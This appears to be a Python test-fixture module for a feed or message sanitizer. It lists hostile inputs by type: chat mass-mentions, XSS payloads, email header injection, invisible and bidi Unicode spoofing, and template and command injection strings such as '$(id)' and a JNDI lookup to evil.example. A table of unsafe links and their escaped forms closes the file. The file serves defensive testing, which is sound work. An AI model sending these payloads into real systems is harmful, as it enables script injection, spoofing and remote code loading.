"""Texts that feeds of an enemy would carry, for every form a message has: markup, forged lines, hidden letters."""

from __future__ import annotations

MENTIONS = [
    "<!channel> militia", "<!here|here> militia", "<!everyone>", "<@U1> militia", "<@U012ABCDEF|officer>", "<#C1>",
    "<!subteam^S1>", "<!date^1392734382^{date}|x>", "@everyone militia", "@here", "@channel",
    "<https://evil.example|click here> militia", "<mailto:x@evil.example|mail>", "<tel:1|call>", "<http://evil.example>",
]  # fmt: skip
MARKUP = [
    "`rm -rf` militia", "```\nmilitia\n```", "*bold* _italic_ ~struck~ militia", "[militia](https://evil.example)",
    "![x](https://evil.example/t.gif)", "> quoted militia", "# heading militia", "- list", ":skull: militia", "&lt;!channel&gt;",
    "&amp;lt;b&amp;gt;", "<b>militia</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/t.gif'>", "<a href='javascript:alert(1)'>militia</a>", "<form action=//evil.example><input>",
    "<svg/onload=alert(1)>", "</div></body></html>militia", "<!--", "<style>*{display:none}</style>",
    "<iframe src=//evil.example>", "\"><b>militia", "' onmouseover='alert(1)", "<base href=//evil.example>", "<meta http-equiv=refresh>",
]  # fmt: skip
FORGED = [
    "militia\r\nBcc: all@evil.example", "militia\nSubject: calm", "militia\r\n\r\n<b>body</b>", "militia\u2028Why: nothing",
    "militia\u2029Sent because: nothing", "militia\x0bSubject: x", "militia\x85Subject: x", "militia\x00hidden", "militia\x1b[2J\x1b[31m",
    "=?utf-8?q?calm?=", "=?utf-8?B?Y2FsbQ==?= militia", "militia\x7f\x08\x08", "militia\tStory s9, alert 9, delivery d9", ".\r\nQUIT\r\n",
]  # fmt: skip
HIDDEN = [
    "\u202emilitia\u202c", "\u2066militia", "militia\u2069\u2069\u2069", "\u061cmilitia", "\u200fmilitia\u200e", "mi\u200blitia", "mi\u00adlitia",
    "mi\u2060litia", "\ufeffmilitia", "mili\U000e0074ia", "\u3164\u3164militia", "m" + "\u0301" * 400 + "ilitia", "mili\ufffetia", "mili\ud800tia",
    "\u2067" * 50 + "militia", "militia" + "\u034f" * 50,
]  # fmt: skip
TEMPLATES = [
    "{{7*7}} militia", "${jndi:ldap://evil.example/x}", "{%print(7*7)%}", "#{7*7}", "<%= 7*7 %>", "%s %d %(x)s", "{0.__class__}",
    "{delivery.id}", "$PATH ${HOME}", "`id`", "$(id)", "{{config}}", "*{7*7}", "@(7*7)",
]  # fmt: skip
ALL = [*MENTIONS, *MARKUP, *FORGED, *HIDDEN, *TEMPLATES]

# A link as its feed gives it, and what may be printed of it.
LINKS = [
    ("https://a.example/x", "https://a.example/x"),
    ("https://a.example/x y<z>|w", "https://a.example/x%20y%3Cz%3E%7Cw"),
    ("https://a.example/\"onclick='x'", "https://a.example/%22onclick=%27x%27"),
    ("https://a.example/\u202egpj.exe", "https://a.example/gpj.exe"),
    ("https://a.example/a\u2028b\u00a0c", "https://a.example/a%E2%80%A8b%C2%A0c"),
    ("https://a.example/](https://evil.example)", "https://a.example/%5D(https://evil.example)"),
    ("https://\u0430pple.example/x", "https://xn--pple-43d.example/x"),
    ("https://a.example:8443/قصة", "https://a.example:8443/%D9%82%D8%B5%D8%A9"),
    ("javascript:alert(1)", None),
    ("data:text/html,x", None),
    ("file:///etc/passwd", None),
    ("https://user:pass@a.example/x", None),
    ("https://a.example@evil.example/x", None),
    ("//a.example/x", None),
    ("https://", None),
    ("https://a.example/" + "x" * 8000, None),
    ("https://[::1/x", None),
    (None, None),
]
